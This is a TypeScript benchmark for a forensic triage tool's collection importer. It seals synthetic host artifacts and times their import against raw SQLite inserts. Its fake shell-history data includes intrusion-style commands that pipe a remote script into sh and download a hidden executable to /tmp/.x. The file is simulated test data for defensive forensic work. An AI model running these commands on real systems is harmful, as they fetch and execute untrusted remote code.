/**
 * `npm run bench -- importer`: artifacts per second from decrypt to
 * committed rows, beside a raw better-sqlite3 insert of the same rows.
 *
 * Target (issue 8): ≥ 200,000 artifacts/s and ≥ 0.4× raw.
 *
 * Setup (untimed): N records of every kind (one host_info, the rest mixed in
 * the proportions of a busy server: mostly log, history and file records),
 * sealed with the real writer (`sealCollection`: validated, brotli, envelope
 * to an examiner key, manifest signed) into a file in a temp dir.
 *
 * - ours: `importCollection` into a fresh case database, exactly as
 *   `triage-import file` calls it (file read stream, `openCollection`, the
 *   collector's verify key required): open → decrypt → decompress → split
 *   lines → parse → validate every record → insert → manifest hash, counts
 *   and signature checks → COMMIT. Timed from the call to its return; opening
 *   the empty database is not timed.
 * - peer: better-sqlite3 on its own, no triage code: a database with the
 *   same `collections` and `artifacts` tables and indexes (their DDL copied
 *   from a case database) and the same pragmas (WAL, synchronous=NORMAL,
 *   foreign_keys=ON, and the 64 MiB page cache the import's transaction
 *   uses), one prepared INSERT run per row inside one
 *   transaction, from rows already decoded into memory (the very rows the
 *   import wrote, read back). Timed from BEGIN to COMMIT.
 *
 * Rounds are interleaved (ours, peer), after one untimed warm-up round, and
 * each side keeps its best. SQLite runs on the main thread; node:zlib's
 * brotli runs on libuv's thread pool, so on this 2-core machine the
 * decompression of ours can overlap its inserts.
 */
import { createReadStream, createWriteStream } from 'node:fs';
import { mkdtemp, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import type { ArtifactRecord } from '@triage/artifact-schema';
import { importCollection, openCaseStore } from '@triage/case-store';
import { openCollection, sealCollection } from '@triage/collection';
import { generateExaminerKeyPair, generateSigningKeyPair } from '@triage/encryption';
import { seededRandom } from '@triage/testkit';
import Database from 'better-sqlite3';
import type { BenchOptions, BenchResult } from '../run.ts';

const TARGET_RATE = 200_000;
/** The page cache importCollection gives its transaction (packages/case-store/src/import.ts); the peer gets it too. */
const IMPORT_CACHE_KIB = 64 * 1024;
const TARGET_RATIO = 0.4;

const BASE_TIME = Date.parse('2026-11-20T00:00:00.000Z');
const COLLECTED_AT = '2026-11-23T16:00:01.123Z';
const USERS = ['root', 'alice', 'bob', 'deploy', 'www-data', 'postgres', 'backup', 'svc-ci'];
const SHELLS = ['bash', 'zsh', 'sh'];
const COMMANDS = [
  'sudo systemctl restart nginx',
  'ls -la /var/www/html',
  'curl -fsSL http://203.0.113.7/install.sh | sh',
  'tail -n 200 /var/log/auth.log',
  'git pull --rebase origin main',
  'docker compose up -d',
  'vim /etc/ssh/sshd_config',
  'psql -U postgres -c "select count(*) from orders"',
  'wget -q -O /tmp/.x http://198.51.100.23/x && chmod +x /tmp/.x',
  'history -c',
];
const EXES = ['/usr/sbin/sshd', '/usr/bin/bash', '/usr/sbin/nginx', '/usr/lib/systemd/systemd', '/tmp/.x'];
const PACKAGES = ['openssl', 'libc6', 'nginx', 'openssh-server', 'python3.12', 'curl', 'zlib1g', 'sudo'];

/** Cumulative weights of the kinds after the one host_info. */
const MIX: readonly [ArtifactRecord['kind'], number][] = [
  ['login_event', 0.27],
  ['shell_history_entry', 0.22],
  ['file_metadata', 0.14],
  ['process', 0.08],
  ['network_connection', 0.07],
  ['installed_package', 0.07],
  ['startup_item', 0.05],
  ['user_account', 0.02],
  ['group', 0.02],
  ['kernel_module', 0.02],
  ['ssh_authorized_key', 0.02],
  ['ssh_known_host', 0.02],
];

/** N realistic records of mixed kinds: one host_info, then {@link MIX}. */
export function* benchRecords(count: number, seed = 8): Generator<ArtifactRecord> {
  const random = seededRandom(seed);
  const int = (n: number) => Math.floor(random() * n);
  const pick = <T>(list: readonly T[]): T => list[int(list.length)] as T;
  const time = () => new Date(BASE_TIME + int(3 * 86_400_000)).toISOString();
  const ip = () => `${pick(['10.0', '192.168', '203.0', '198.51'])}.${int(256)}.${int(256)}`;
  const hex = (n: number) => {
    let out = '';
    while (out.length < n) out += (int(0x100000000) >>> 0).toString(16).padStart(8, '0');
    return out.slice(0, n);
  };
  if (count <= 0) return;
  yield {
    kind: 'host_info',
    source: '/etc/os-release',
    collected_at: COLLECTED_AT,
    hostname: 'web-01',
    os_id: 'ubuntu',
    os_name: 'Ubuntu 24.04.1 LTS',
    os_version: '24.04',
    kernel_release: '6.8.0-49-generic',
    machine_id: hex(32),
    boot_time: '2026-11-19T03:12:44.000Z',
    timezone: 'Etc/UTC',
    live: true,
  };
  for (let i = 1; i < count; i++) {
    let r = random();
    let kind: ArtifactRecord['kind'] = 'login_event';
    for (const [k, w] of MIX) {
      kind = k;
      r -= w;
      if (r < 0) break;
    }
    const user = pick(USERS);
    switch (kind) {
      case 'login_event': {
        const ok = random() < 0.7;
        const pid = 1000 + int(60_000);
        yield {
          kind,
          source: '/var/log/auth.log',
          collected_at: COLLECTED_AT,
          event: ok ? 'login' : 'failed_login',
          time: time(),
          user,
          terminal: null,
          remote_host: null,
          remote_address: ip(),
          pid,
          success: ok,
          method: random() < 0.5 ? 'publickey' : 'password',
          message: `sshd[${pid}]: ${ok ? 'Accepted' : 'Failed'} password for ${user} from ${ip()} port ${1024 + int(60_000)} ssh2`,
        };
        break;
      }
      case 'shell_history_entry': {
        const home = user === 'root' ? '/root' : `/home/${user}`;
        yield {
          kind,
          source: `${home}/.bash_history`,
          collected_at: COLLECTED_AT,
          user,
          shell: pick(SHELLS),
          path: `${home}/.bash_history`,
          line: 1 + int(5000),
          command: `${pick(COMMANDS)} # ${int(1_000_000)}`,
          time: random() < 0.3 ? time() : null,
        };
        break;
      }
      case 'file_metadata': {
        const path = `/usr/bin/tool-${int(100_000)}`;
        yield {
          kind,
          source: path,
          collected_at: COLLECTED_AT,
          path,
          exists: true,
          size: int(10_000_000),
          mode: '100755',
          uid: 0,
          gid: 0,
          owner: 'root',
          mtime: time(),
          atime: time(),
          ctime: time(),
          btime: null,
          sha256: hex(64),
          referenced_by: [`process:${int(60_000)}`],
          error: null,
        };
        break;
      }
      case 'process': {
        const pid = 1 + int(4_000_000);
        const exe = pick(EXES);
        yield {
          kind,
          source: `/proc/${pid}`,
          collected_at: COLLECTED_AT,
          pid,
          ppid: 1 + int(pid),
          name: exe.slice(exe.lastIndexOf('/') + 1),
          state: 'S',
          uid: user === 'root' ? 0 : 1000 + int(50),
          user,
          exe,
          exe_deleted: exe === '/tmp/.x',
          cmdline: [exe, '-D', `--port=${int(65536)}`],
          cwd: '/',
          start_time: time(),
        };
        break;
      }
      case 'network_connection':
        yield {
          kind,
          source: '/proc/net/tcp',
          collected_at: COLLECTED_AT,
          protocol: 'tcp',
          family: 'ipv4',
          local_address: '10.0.0.5',
          local_port: pick([22, 80, 443, 5432]),
          remote_address: ip(),
          remote_port: 1024 + int(60_000),
          state: 'ESTABLISHED',
          uid: 0,
          inode: int(10_000_000),
          pid: 1 + int(4_000_000),
          process_name: 'nginx',
        };
        break;
      case 'installed_package': {
        const name = `${pick(PACKAGES)}-${int(20_000)}`;
        yield {
          kind,
          source: '/var/lib/dpkg/status',
          collected_at: COLLECTED_AT,
          manager: 'dpkg',
          name,
          version: `${int(10)}.${int(30)}.${int(100)}-${int(9)}ubuntu${int(5)}`,
          architecture: 'amd64',
          status: 'install ok installed',
          install_time: time(),
        };
        break;
      }
      case 'startup_item': {
        const name = `svc-${int(100_000)}.service`;
        yield {
          kind,
          source: `/etc/systemd/system/${name}`,
          collected_at: COLLECTED_AT,
          mechanism: 'systemd_unit',
          name,
          path: `/etc/systemd/system/${name}`,
          user,
          command: `${pick(EXES)} --config /etc/${name}.conf`,
          executable: pick(EXES),
          schedule: null,
          enabled: random() < 0.8,
          line: null,
          file_mtime: time(),
        };
        break;
      }
      case 'user_account': {
        const name = `${user}${int(100_000)}`;
        yield {
          kind,
          source: '/etc/passwd',
          collected_at: COLLECTED_AT,
          username: name,
          uid: 1000 + int(60_000),
          gid: 1000 + int(60_000),
          gecos: `${name},,,`,
          home: `/home/${name}`,
          shell: '/bin/bash',
          password_status: 'set',
          last_change: '2026-01-02',
          min_days: 0,
          max_days: 99999,
          warn_days: 7,
          inactive_days: null,
          expires: null,
        };
        break;
      }
      case 'group':
        yield {
          kind,
          source: '/etc/group',
          collected_at: COLLECTED_AT,
          name: `grp${int(100_000)}`,
          gid: 1000 + int(60_000),
          members: [user, pick(USERS)],
        };
        break;
      case 'kernel_module':
        yield {
          kind,
          source: '/proc/modules',
          collected_at: COLLECTED_AT,
          name: `mod_${int(100_000)}`,
          size: int(2_000_000),
          refcount: int(10),
          used_by: [],
          state: 'Live',
          taint: random() < 0.02 ? '(OE)' : null,
        };
        break;
      case 'ssh_authorized_key': {
        const home = user === 'root' ? '/root' : `/home/${user}`;
        yield {
          kind,
          source: `${home}/.ssh/authorized_keys`,
          collected_at: COLLECTED_AT,
          user,
          path: `${home}/.ssh/authorized_keys`,
          line: 1 + int(50),
          key_type: 'ssh-ed25519',
          fingerprint: `SHA256:${Buffer.from(hex(64), 'hex').toString('base64').replace(/=+$/, '')}`,
          comment: `${user}@laptop-${int(1000)}`,
          options: null,
          file_mtime: time(),
        };
        break;
      }
      default: {
        const home = user === 'root' ? '/root' : `/home/${user}`;
        yield {
          kind: 'ssh_known_host',
          source: `${home}/.ssh/known_hosts`,
          collected_at: COLLECTED_AT,
          user,
          path: `${home}/.ssh/known_hosts`,
          line: 1 + int(500),
          hosts: `|1|${Buffer.from(hex(40), 'hex').toString('base64')}|${Buffer.from(hex(40), 'hex').toString('base64')}`,
          hashed: true,
          key_type: 'ssh-ed25519',
          fingerprint: `SHA256:${Buffer.from(hex(64), 'hex').toString('base64').replace(/=+$/, '')}`,
          marker: null,
        };
      }
    }
  }
}

async function* asAsync<T>(items: Iterable<T>): AsyncGenerator<T> {
  yield* items;
}

type Row = unknown[];

/** The peer: plain better-sqlite3, same tables, indexes and pragmas, one prepared INSERT in one transaction. */
function rawInsert(path: string, ddl: readonly string[], rows: readonly Row[]): number {
  const db = new Database(path);
  try {
    db.pragma('journal_mode = WAL');
    db.pragma('synchronous = NORMAL');
    db.pragma('foreign_keys = ON');
    db.pragma(`cache_size = -${IMPORT_CACHE_KIB}`);
    for (const statement of ddl) db.exec(statement);
    db.prepare(
      `INSERT INTO collections (id, collection_id, case_id, host, source_kind, started_at, imported_at, examiner)
       VALUES (1, 'raw', 'BENCH-8', 'web-01', 'file', ?, ?, 'bench')`,
    ).run(COLLECTED_AT, COLLECTED_AT);
    const insert = db.prepare(
      `INSERT INTO artifacts (collection_ref, kind, collected_at, source, time, user, path, json)
       VALUES (1, ?, ?, ?, ?, ?, ?, ?)`,
    );
    const start = process.hrtime.bigint();
    db.exec('BEGIN IMMEDIATE');
    for (const row of rows) insert.run(row);
    db.exec('COMMIT');
    const seconds = Number(process.hrtime.bigint() - start) / 1e9;
    const count = (db.prepare('SELECT count(*) AS n FROM artifacts').get() as { n: number }).n;
    if (count !== rows.length) throw new Error(`peer committed ${count} rows, expected ${rows.length}`);
    return seconds;
  } finally {
    db.close();
  }
}

export async function run({ quick, log }: BenchOptions): Promise<BenchResult> {
  const count = quick ? 200_000 : 1_000_000;
  const rounds = quick ? 2 : 3;
  const dir = await mkdtemp(join(tmpdir(), 'triage-bench-importer-'));
  try {
    const examiner = generateExaminerKeyPair();
    const signer = generateSigningKeyPair();
    const file = join(dir, 'web-01.triage');
    const setup = process.hrtime.bigint();
    const sealed = sealCollection(asAsync(benchRecords(count)), {
      header: { case: 'BENCH-8', host: 'web-01', collector: { name: 'triage-bench', version: '1' } },
      recipients: [examiner.recipient],
      signingKey: signer.signingKey,
    });
    await sealed.stream.pipeTo(Writable.toWeb(createWriteStream(file)) as WritableStream<Uint8Array>);
    const { manifest } = await sealed.manifest;
    const size = (await stat(file)).size;
    log(
      `importer bench: ${count.toLocaleString('en')} records of ${Object.keys(manifest.counts).length} kinds, ` +
        `${(manifest.artifact_bytes / 1e6).toFixed(0)} MB of NDJSON sealed to ${(size / 1e6).toFixed(1)} MB ` +
        `(signed) in ${(Number(process.hrtime.bigint() - setup) / 1e9).toFixed(1)} s; ` +
        `best of ${rounds} interleaved rounds after a warm-up (node ${process.version})`,
    );

    let round = 0;
    let rows: Row[] = [];
    let ddl: string[] = [];
    const ours = async (): Promise<number> => {
      const path = join(dir, `case-${round}.sqlite`);
      const store = openCaseStore(path);
      try {
        const start = process.hrtime.bigint();
        const result = await importCollection(store, {
          source: createReadStream(file),
          custody: { kind: 'file', path: file },
          identities: [examiner.identity],
          verifyKeys: [signer.verifyKey],
          examiner: 'bench',
          open: openCollection,
        });
        const seconds = Number(process.hrtime.bigint() - start) / 1e9;
        const committed = (store.db.prepare('SELECT count(*) AS n FROM artifacts').get() as { n: number }).n;
        if (result.outcome !== 'imported' || result.records !== count || committed !== count) {
          throw new Error(`import gave ${result.outcome} with ${result.records} records, ${committed} rows`);
        }
        if (rows.length === 0) {
          rows = store.db
            .prepare('SELECT kind, collected_at, source, time, user, path, json FROM artifacts ORDER BY id')
            .raw()
            .all() as Row[];
          ddl = (
            store.db
              .prepare(
                `SELECT sql FROM sqlite_master WHERE tbl_name IN ('collections', 'artifacts') AND sql IS NOT NULL
                 ORDER BY type = 'index', rowid`,
              )
              .all() as { sql: string }[]
          ).map((entry) => entry.sql);
        }
        return seconds;
      } finally {
        store.close();
        await rm(path, { force: true });
        await rm(`${path}-wal`, { force: true });
        await rm(`${path}-shm`, { force: true });
      }
    };
    const peer = async (): Promise<number> => {
      const path = join(dir, `raw-${round}.sqlite`);
      try {
        return rawInsert(path, ddl, rows);
      } finally {
        await rm(path, { force: true });
        await rm(`${path}-wal`, { force: true });
        await rm(`${path}-shm`, { force: true });
      }
    };

    let bestOurs = 0;
    let bestPeer = 0;
    for (round = 0; round <= rounds; round++) {
      const oursSeconds = await ours();
      const peerSeconds = await peer();
      const label = round === 0 ? 'warm-up' : `round ${round}`;
      log(
        `  ${label.padEnd(8)} import ${oursSeconds.toFixed(2)} s (${Math.round(count / oursSeconds).toLocaleString('en')}/s)` +
          `  raw ${peerSeconds.toFixed(2)} s (${Math.round(count / peerSeconds).toLocaleString('en')}/s)`,
      );
      if (round === 0) continue;
      bestOurs = Math.max(bestOurs, count / oursSeconds);
      bestPeer = Math.max(bestPeer, count / peerSeconds);
    }
    const ratio = bestOurs / bestPeer;
    const fmt = (n: number) => Math.round(n).toLocaleString('en').padStart(10);
    log(
      `  importCollection, decrypt to committed rows   ${fmt(bestOurs)} artifacts/s  ${ratio.toFixed(2)}x raw`,
    );
    log(`  better-sqlite3 prepared insert, one txn (peer) ${fmt(bestPeer)} artifacts/s`);
    return {
      bench: 'importer',
      metric: 'artifacts per second, decrypt to committed rows',
      value: Math.round(bestOurs),
      unit: 'artifacts/s',
      peer: 'better-sqlite3 prepared insert, one transaction',
      peerValue: Math.round(bestPeer),
      ratio: Number(ratio.toFixed(3)),
      target: '>= 200000 artifacts/s and >= 0.4x raw',
      met: bestOurs >= TARGET_RATE && ratio >= TARGET_RATIO,
    };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
